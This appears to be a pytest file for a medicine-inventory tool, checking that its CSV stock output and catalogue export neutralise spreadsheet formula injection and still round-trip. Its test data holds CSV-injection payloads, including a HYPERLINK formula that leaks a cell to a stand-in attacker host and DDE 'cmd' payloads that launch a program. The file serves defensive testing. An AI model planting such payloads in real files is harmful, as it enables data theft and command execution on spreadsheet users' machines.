"""Issue 15 item 4 for the two CSV writers outside the reports: ``ihms-desk stock --format csv``
and the catalogue export. A name from the state's catalogue beginning with = + - @, a tab or a
carriage return must open as text in a spreadsheet, not run as a formula; the catalogue export
still reads back into the same catalogue."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ihms_desk.cli import EXIT_OK, main
from ihms_desk.store import Store
from ihms_desk.store.spreadsheet import FORMULA_STARTS, is_formula_like

#: Names as a hostile or careless catalogue could hold them; each begins with a formula start.
HOSTILE = {
    "X0001": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "X0002": "+91 Ringer Lactate",
    "X0003": "-cmd|' /C calc'!A0",
    "X0004": "@SUM(1+1)*cmd|' /C calc'!A0",
    "X0005": "\uff1dFULLWIDTH equals",
}
HEADER = "code,name,generic_name,strength,dosage_form,unit_of_issue,category,min_stock,active\n"


def catalogue_text() -> str:
    rows = [HEADER, "D0001,Paracetamol 500 mg Tablet,Paracetamol,500 mg,tablet,tablet,drug,0,1\n"]
    writer_buffer = io.StringIO()
    writer = csv.writer(writer_buffer, lineterminator="\n")
    for code, name in HOSTILE.items():
        writer.writerow([code, name, "=generic()", "1", "tablet", "tablet", "drug", "0", "1"])
    return "".join(rows) + writer_buffer.getvalue()


@pytest.fixture
def hostile_store(store: Store) -> Store:
    report = store.import_catalogue_csv(io.StringIO(catalogue_text()))
    assert report.ok, report.rejected
    return store


def cells_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_the_catalogue_export_writes_formula_like_names_as_text(hostile_store: Store, tmp_path: Path) -> None:
    target = tmp_path / "catalogue.csv"
    hostile_store.export_catalogue_csv(target)
    rows = cells_of(target.read_text(encoding="utf-8"))
    by_code = {row[0]: row for row in rows[1:]}
    for code, name in HOSTILE.items():
        assert by_code[code][1] == "'" + name  # opens as text in Excel and LibreOffice
        assert by_code[code][2] == "'=generic()"
    assert by_code["D0001"][1] == "Paracetamol 500 mg Tablet"  # ordinary names untouched
    assert not any(is_formula_like(cell) for row in rows for cell in row)


def test_the_guarded_catalogue_reads_back_as_it_was(hostile_store: Store, tmp_path: Path) -> None:
    target = tmp_path / "catalogue.csv"
    hostile_store.export_catalogue_csv(target)
    before = {item.code: (item.name, item.generic_name) for item in map(hostile_store.item, ["D0001", *HOSTILE])}
    other = Store.open(tmp_path / "other")
    other.conn.execute("INSERT INTO app_user (username, full_name, role, password_hash, created_at) VALUES ('a', 'A', 'admin', 'x', 'now')")
    other.conn.commit()
    other.act_as("a")
    report = other.import_catalogue_csv(target)
    assert report.ok and report.added == hostile_store.item_count()
    after = {item.code: (item.name, item.generic_name) for item in map(other.item, ["D0001", *HOSTILE])}
    other.close()
    assert after == before
    assert after["X0001"][0].startswith("=HYPERLINK")


def test_stock_as_csv_writes_formula_like_names_as_text(hostile_store: Store, capsys: pytest.CaptureFixture[str]) -> None:
    folder = hostile_store.path.parent
    hostile_store.close()
    code = main(["--data-dir", str(folder), "stock", "--format", "csv", "--all"])
    out, err = capsys.readouterr()
    assert code == EXIT_OK, err
    rows = cells_of(out)
    assert rows[0][:2] == ["code", "name"]
    names = {row[0]: row[1] for row in rows[1:]}
    for code_, name in HOSTILE.items():
        assert names[code_] == "'" + name
    assert names["D0001"] == "Paracetamol 500 mg Tablet"
    assert not any(is_formula_like(cell) for row in rows for cell in row)
    # Numbers stay numbers (on hand, usable, expired): never quoted.
    assert all(row[3].isdigit() for row in rows[1:])


def test_every_formula_start_is_guarded() -> None:
    assert {"=", "+", "-", "@", "\t", "\r"} <= set(FORMULA_STARTS)
